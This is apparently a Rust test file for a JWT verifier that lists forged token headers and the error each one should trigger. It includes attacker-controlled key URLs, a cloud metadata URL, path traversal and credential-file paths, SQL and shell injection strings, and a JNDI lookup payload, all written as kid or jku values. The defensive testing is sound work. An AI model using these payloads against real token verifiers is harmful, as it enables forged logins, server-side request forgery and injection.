//! Headers that choose, bring or ask for something.

use super::*;

pub(super) fn attacks() -> Vec<Attack> {
    [malformed(), asking(), bringing(), naming()].concat()
}

fn with(header: &str, refused: TokenError) -> Attack {
    attack(format!("header {header}"), signed(header, CLAIMS), refused)
}

fn malformed() -> Vec<Attack> {
    let deep = format!(
        r#"{{"alg":"HS256","x":{}{}}}"#,
        "[".repeat(1_000),
        "]".repeat(1_000)
    );
    let deep_in_objects = format!(
        r#"{{"alg":"HS256","x":{}1{}}}"#,
        r#"{"x":"#.repeat(9),
        "}".repeat(9)
    );
    let many: Vec<_> = (0..100).map(|n| format!(r#""{n}":1"#)).collect();
    let many = format!(r#"{{"alg":"HS256",{}}}"#, many.join(","));
    [
        "",
        "null",
        "true",
        "\"HS256\"",
        "{}",
        "[\"HS256\"]",
        "[\"HS256\",null,null]",
        r#"[{"alg":"HS256"}]"#,
        r#"{"typ":"JWT"}"#,
        r#"{"alg":null}"#,
        r#"{"alg":true}"#,
        r#"{"alg":256}"#,
        r#"{"alg":["HS256"]}"#,
        r#"{"alg":{"name":"HS256"}}"#,
        r#"{"alg":"none","alg":"HS256"}"#,
        r#"{"alg":"HS256","alg":"none"}"#,
        r#"{"alg":"HS256","alg":"HS256"}"#,
        r#"{"alg":"HS256","\u0061lg":"none"}"#,
        r#"{"alg":"HS256","typ":"JWT","typ":"JWT"}"#,
        r#"{"alg":"HS256","kid":"a","kid":"b"}"#,
        r#"{"alg":"HS256","x":1,"x":2}"#,
        r#"{"alg":"HS256","x":{"a":1,"a":2}}"#,
        r#"{"alg":"HS256"}{}"#,
        r#"{"alg":"HS256"} x"#,
        r#"{"alg":"HS256"},"#,
        r#"{"alg":"HS256",}"#,
        r#"{"alg":"HS256""#,
        r"{'alg':'HS256'}",
        r"{alg:'HS256'}",
        r#"{"Alg":"HS256"}"#,
        r#"{"ALG":"HS256"}"#,
        r#"{"alg ":"HS256"}"#,
        "{\"al\0g\":\"HS256\"}",
        "{\"alg\":\"HS256\"}\0",
        "\u{feff}{\"alg\":\"HS256\"}",
        "{\"alg\":\"HS256\"/**/}",
        &deep,
        &deep_in_objects,
        &many,
    ]
    .into_iter()
    .map(|header| with(header, TokenError::Header))
    .chain([attack(
        "a header that is not UTF-8",
        signed(b"{\"alg\":\"HS256\",\"x\":\"\xff\"}", CLAIMS),
        TokenError::Header,
    )])
    .collect()
}

/// Extensions (RFC 7515 4.1.11, RFC 7797), types (RFC 8725 3.11), tokens in tokens.
fn asking() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for crit in [
        r"[]",
        r#"["b64"]"#,
        r#"["exp"]"#,
        r#"["alg"]"#,
        r#""exp""#,
        "null",
        "false",
        "{}",
    ] {
        let header = format!(r#"{{"alg":"HS256","crit":{crit},"exp":1}}"#);
        attacks.push(with(&header, TokenError::CriticalHeader));
    }
    for b64 in ["false", "true", "null"] {
        let header = format!(r#"{{"alg":"HS256","b64":{b64}}}"#);
        attacks.push(with(&header, TokenError::CriticalHeader));
    }
    for typ in [
        r#""JOSE""#,
        r#""JWE""#,
        r#""dpop+jwt""#,
        r#""secevent+jwt""#,
        r#""logout+jwt""#,
        r#""id_token""#,
        r#""application/JOSE""#,
        r#""application/application/JWT""#,
        r#""text/JWT""#,
        r#""/JWT""#,
        r#""JWT;a=b""#,
        r#""JWT ""#,
        r#""""#,
        "null",
        "1",
        "true",
        r#"["JWT"]"#,
        r#"{"typ":"JWT"}"#,
        r#""\u0000JWT""#,
        r#""JW\u0422""#,
    ] {
        let header = format!(r#"{{"alg":"HS256","typ":{typ}}}"#);
        attacks.push(with(&header, TokenError::TypeNotAllowed));
    }
    for cty in [
        "JWT",
        "jwt",
        "application/jwt",
        "at+jwt",
        "JWE",
        "JWS",
        "application/jose",
        "application/jose+json",
    ] {
        let header = format!(r#"{{"alg":"HS256","cty":"{cty}"}}"#);
        attacks.push(with(&header, TokenError::Nested));
    }
    attacks.push(with(r#"{"alg":"HS256","cty":7}"#, TokenError::Header));
    for member in [
        r#""enc":"A256GCM""#,
        r#""epk":{"kty":"EC"}"#,
        r#""zip":"DEF""#,
        r#""zip":null"#,
        r#""p2c":1000000000"#,
    ] {
        let header = format!(r#"{{"alg":"HS256",{member}}}"#);
        attacks.push(with(&header, TokenError::Encrypted));
    }
    attacks
}

/// Keys out of the token (RFC 8725 3.10): refused even where the signature happens to be good.
fn bringing() -> Vec<Attack> {
    let jwk = format!(
        r#"{{"kty":"oct","k":"{}"}}"#,
        base64url("the attacker's own secret, of 32 bytes")
    );
    [
        format!(r#"{{"alg":"HS256","jwk":{jwk}}}"#),
        r#"{"alg":"HS256","jwk":null}"#.to_owned(),
        r#"{"alg":"HS256","jku":"https://attacker.example/keys"}"#.to_owned(),
        r#"{"alg":"HS256","jku":"http://169.254.169.254/latest/meta-data"}"#.to_owned(),
        r#"{"alg":"HS256","jku":"file:///dev/zero"}"#.to_owned(),
        r#"{"alg":"HS256","x5u":"https://attacker.example/cert"}"#.to_owned(),
        r#"{"alg":"HS256","x5c":["MIIB"]}"#.to_owned(),
        r#"{"alg":"HS256","\u006aku":"https://attacker.example"}"#.to_owned(),
    ]
    .iter()
    .map(|header| with(header, TokenError::EmbeddedKey))
    .collect()
}

/// A `kid` is a name among configured keys and nothing else: neither a path, nor a query, nor a pattern.
fn naming() -> Vec<Attack> {
    let mut attacks: Vec<_> = [
        "../../../../dev/null",
        "/dev/null",
        "/proc/self/environ",
        "file:///etc/passwd",
        "' union select 'attacker' -- ",
        "'; drop table wts.tickets; --",
        "$(id)",
        "`id`",
        "|id",
        "%00",
        "${jndi:ldap://attacker.example/a}",
        "https://attacker.example/key",
        "*",
        ".*",
        "",
        "ES256 ",
        "es256",
        "\\u0000",
        "\\u202e652SE",
    ]
    .into_iter()
    .map(|kid| {
        let header = format!(r#"{{"alg":"ES256","kid":"{kid}"}}"#);
        let token = PAIRS.sign("ES256", &header, CLAIMS);
        attack(format!("kid {kid:?}"), token, TokenError::UnknownKey)
    })
    .collect();
    for kid in ["null", "7", "true", r#"["ES256"]"#, r#"{"kid":"ES256"}"#] {
        attacks.push(with(
            &format!(r#"{{"alg":"HS256","kid":{kid}}}"#),
            TokenError::Header,
        ));
    }
    attacks
}
